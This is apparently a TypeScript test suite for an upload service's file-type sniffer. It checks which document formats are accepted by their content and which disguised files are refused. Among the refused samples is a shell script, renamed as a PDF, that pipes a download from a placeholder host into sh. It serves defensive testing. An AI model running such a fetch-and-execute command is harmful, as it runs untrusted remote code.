import { randomBytes } from 'node:crypto';
import { Document, Packer, Paragraph } from 'docx';
import { Workbook } from 'exceljs';
import { DEFAULT_HEAD_BYTES } from '../../storage/hashing-stream';
import { ALLOWED_TYPES, bufferSource, sniffContentType } from './sniff-content-type';
import { storedZip } from './zip.testing';

const head = (file: Buffer): Buffer => file.subarray(0, DEFAULT_HEAD_BYTES);
/** What the upload pipeline does: the head, plus random access to the stored file for zips. */
const sniffStored = (file: Buffer, name: string) => sniffContentType(head(file), name, bufferSource(file));

// Small but real samples, made here rather than checked in.
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
const JPEG = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
  Buffer.from('JFIF\0', 'latin1'),
  Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xff, 0xd9]),
]);
const OLE2 = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
const WINDOWS_EXE = Buffer.concat([
  Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00]),
  Buffer.alloc(50),
  Buffer.from('This program cannot be run in DOS mode.\r\r\n$', 'latin1'),
  Buffer.from('PE\0\0', 'latin1'),
  Buffer.alloc(200),
]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56)]);
const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
const CSV_UTF8 = Buffer.from('\ufeffAction,Owner,Due,Budget\nA1,Café lead,2026-03-31,£1200\n"A2, part 2",Head of Service,2026-04-30,£0\n');
const NOTES = Buffer.from('Notes of the improvement board, 14 March.\nAttendees: chair, DCS, partners.\nActions agreed.\n');

const CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';

async function realDocx(): Promise<Buffer> {
  const document = new Document({ sections: [{ children: [new Paragraph('Audit of supervision records, Q1 2026')] }] });
  return Packer.toBuffer(document);
}

async function realXlsx(): Promise<Buffer> {
  const workbook = new Workbook();
  const sheet = workbook.addWorksheet('Tracker');
  sheet.addRow(['Action', 'Owner', 'RAG']);
  sheet.addRow(['A1', 'Head of Service', 'Green']);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

describe('sniffContentType', () => {
  describe('accepts by content', () => {
    it.each<[string, Buffer, string, string]>([
      ['a minimal PDF', PDF, 'report.pdf', 'application/pdf'],
      ['a PDF whatever its name says', PDF, 'report.docx', 'application/pdf'],
      ['a PNG', PNG, 'chart.png', 'image/png'],
      ['a PNG with no extension', PNG, 'chart', 'image/png'],
      ['a JPEG', JPEG, 'photo.jpeg', 'image/jpeg'],
      ['a legacy Word file', OLE2, 'minutes.doc', 'application/msword'],
      ['a legacy Excel file', OLE2, 'TRACKER.XLS', 'application/vnd.ms-excel'],
      ['a legacy PowerPoint file', OLE2, 'board.ppt', 'application/vnd.ms-powerpoint'],
      ['an OLE2 file under another name (an Outlook .msg)', OLE2, 'email.msg', 'application/x-ole-storage'],
      ['OLE2 named .pdf is still OLE2, not PDF', OLE2, 'report.pdf', 'application/x-ole-storage'],
      ['UTF-8 CSV with BOM, quotes and pound signs', CSV_UTF8, 'tracker.csv', 'text/csv'],
      ['CSV content under a .txt name (consistent commas)', CSV_UTF8, 'tracker.txt', 'text/csv'],
      ['plain notes', NOTES, 'notes.txt', 'text/plain'],
      ['plain notes with no extension', NOTES, 'README', 'text/plain'],
      ['a one-line CSV, because of its name', Buffer.from('a,b,c'), 'one.csv', 'text/csv'],
    ])('%s', async (_case, file, name, mime) => {
      const type = await sniffStored(file, name);
      expect(type?.mime).toBe(mime);
      expect(ALLOWED_TYPES.map((t) => t.mime)).toContain(mime);
    });

    it('a real .docx made by the docx package', async () => {
      const docx = await realDocx();
      expect(await sniffStored(docx, 'audit.docx')).toEqual({
        mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
        extension: 'docx',
        label: 'Word document',
      });
    });

    it('a real .xlsx made by exceljs, even renamed .pdf', async () => {
      const xlsx = await realXlsx();
      expect(await sniffStored(xlsx, 'tracker.xlsx')).toMatchObject({ extension: 'xlsx' });
      expect(await sniffStored(xlsx, 'tracker.pdf')).toMatchObject({ extension: 'xlsx' });
    });

    it('a .pptx (hand-built zip with the PowerPoint parts)', async () => {
      const pptx = storedZip([
        { name: '[Content_Types].xml', data: CONTENT_TYPES },
        { name: 'ppt/presentation.xml', data: '<p:presentation/>' },
        { name: 'ppt/slides/slide1.xml', data: '<p:sld/>' },
      ]);
      expect(await sniffStored(pptx, 'board.pptx')).toMatchObject({ extension: 'pptx' });
    });

    it('a macro-enabled workbook, typed as .xlsm (not passed off as .xlsx)', async () => {
      const xlsm = storedZip([
        { name: '[Content_Types].xml', data: CONTENT_TYPES },
        { name: 'xl/workbook.xml', data: '<workbook/>' },
        { name: 'xl/vbaProject.bin', data: randomBytes(64) },
      ]);
      expect(await sniffStored(xlsm, 'tracker.xlsx')).toMatchObject({ mime: 'application/vnd.ms-excel.sheet.macroEnabled.12', extension: 'xlsm' });
    });

    it('an OOXML file whose entries lie beyond the head: decided from the central directory', async () => {
      const docx = storedZip([
        { name: 'docProps/thumbnail.jpeg', data: randomBytes(40_000) },
        { name: '[Content_Types].xml', data: CONTENT_TYPES },
        { name: 'word/document.xml', data: '<w:document/>' },
      ]);
      // With only the head, the first entry is all that can be seen: refused rather than guessed.
      expect(await sniffContentType(head(docx), 'report.docx')).toBeNull();
      expect(await sniffStored(docx, 'report.docx')).toMatchObject({ extension: 'docx' });
    });

    it('a small OOXML file from its head alone (the head is the whole file)', async () => {
      const docx = storedZip([
        { name: '[Content_Types].xml', data: CONTENT_TYPES },
        { name: 'word/document.xml', data: '<w:document/>' },
      ]);
      expect(await sniffContentType(docx, 'x.docx')).toMatchObject({ extension: 'docx' });
    });

    it('text encodings: UTF-16 with a BOM either way, and Windows-1252 (Excel "CSV (Comma delimited)")', async () => {
      const text = 'Ref,Finding,Status\nF1,Supervision is not regular,Amber\nF2,Care plans out of date,Red\n';
      const utf16le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
      const utf16be = Buffer.from(utf16le);
      utf16be.swap16();
      const cp1252 = Buffer.from('Ref,Cost\nF1,\u00a31200\nF2,\u00a3300\n', 'latin1');
      expect(await sniffStored(utf16le, 'findings.csv')).toMatchObject({ mime: 'text/csv', charset: 'utf-16le' });
      expect(await sniffStored(utf16be, 'findings.txt')).toMatchObject({ mime: 'text/csv', charset: 'utf-16be' });
      expect(await sniffStored(cp1252, 'costs.csv')).toMatchObject({ mime: 'text/csv', charset: 'windows-1252' });
      expect(await sniffStored(CSV_UTF8, 'tracker.csv')).toMatchObject({ charset: 'utf-8' });
    });

    it('UTF-8 text whose head ends halfway through a character', async () => {
      const text = Buffer.from('a' + 'é'.repeat(DEFAULT_HEAD_BYTES));
      expect(head(text)[DEFAULT_HEAD_BYTES - 1]).toBe(0xc3);
      expect(await sniffContentType(head(text), 'accents.txt')).toMatchObject({ mime: 'text/plain', charset: 'utf-8' });
    });
  });

  describe('refuses (null, so 415)', () => {
    it.each<[string, Buffer, string]>([
      ['a Windows executable renamed .pdf', WINDOWS_EXE, 'invoice.pdf'],
      ['a Windows executable renamed .txt', WINDOWS_EXE, 'notes.txt'],
      ['an ELF binary', ELF, 'report.pdf'],
      ['a shell script named .pdf', SHELL_SCRIPT, 'invoice.pdf'],
      ['plain text named .docx', NOTES, 'minutes.docx'],
      ['an HTML page named .html', Buffer.from('<!doctype html><script>alert(1)</script>'), 'page.html'],
      ['random bytes named .pdf', randomBytes(4096), 'data.pdf'],
      ['random bytes named .csv', randomBytes(4096), 'data.csv'],
      ['an empty file', Buffer.alloc(0), 'empty.txt'],
      ['UTF-16 text without a BOM', Buffer.from('hello, world\n', 'utf16le'), 'hello.txt'],
      ['text full of control characters', Buffer.from('a\x01b\x02c\x03d\x04e\x05f\x06g\x07'), 'odd.txt'],
      ['a zip of photos', storedZip([{ name: 'photos/visit.jpg', data: JPEG }]), 'photos.zip'],
      ['a zip of photos renamed .docx', storedZip([{ name: 'photos/visit.jpg', data: JPEG }]), 'report.docx'],
      ['a zip with Office folders but no [Content_Types].xml', storedZip([{ name: 'word/document.xml', data: '<w/>' }]), 'x.docx'],
      ['a Java archive', storedZip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: x\n' }]), 'tool.jar'],
      ['a zip header followed by garbage', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), randomBytes(2000)]), 'x.xlsx'],
      ['a GIF (not on the list)', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), 'x.gif'],
    ])('%s', async (_case, file, name) => {
      expect(await sniffStored(file, name)).toBeNull();
    });
  });

  it('documents every type with a mime, an extension and a label', () => {
    expect(ALLOWED_TYPES.length).toBeGreaterThanOrEqual(12);
    for (const type of ALLOWED_TYPES) {
      expect(type).toEqual({ mime: expect.any(String), extension: expect.stringMatching(/^[a-z]+$/), label: expect.any(String) });
    }
    expect(new Set(ALLOWED_TYPES.map((t) => t.mime)).size).toBe(ALLOWED_TYPES.length);
  });

  it('hands out copies, so callers cannot change ALLOWED_TYPES', async () => {
    const type = await sniffStored(PDF, 'x.pdf');
    type!.label = 'changed';
    expect(ALLOWED_TYPES.find((t) => t.mime === 'application/pdf')?.label).toBe('PDF document');
  });
});
